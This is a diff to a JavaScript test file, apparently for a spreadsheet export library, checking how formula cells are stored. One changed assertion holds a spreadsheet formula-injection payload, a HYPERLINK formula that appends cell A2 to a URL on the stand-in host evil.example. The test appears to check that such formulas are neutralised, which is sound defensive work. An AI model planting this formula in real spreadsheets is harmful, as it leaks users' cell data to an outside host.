@@ -102,7 +102,7 @@ describe('a table of formulas', () => {
 		const types = [...sheet.matchAll(/<c [^>]*?(?:t="(\w+)")?[^>]*>/g)].map(([cell]) => / t="(\w+)"/.exec(cell)?.[1] ?? 'n');
 		expect(types.filter((type) => type === 'n')).toHaveLength(formulas.length);
 		expect(types.filter((type) => type !== 'n' && type !== 's' && type !== 'inlineStr')).toEqual([]);
-		expect(Object.values(files).join('')).toContain('>=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A2,&quot;Open&quot;)</t>');
+		expect(Object.values(files).join('')).toContain('<t>=HYPERLINK("http://evil.example/?"&amp;A2,"Open")</t>');
 	});
 
 	it('leaves out what no cell can hold', async () => {
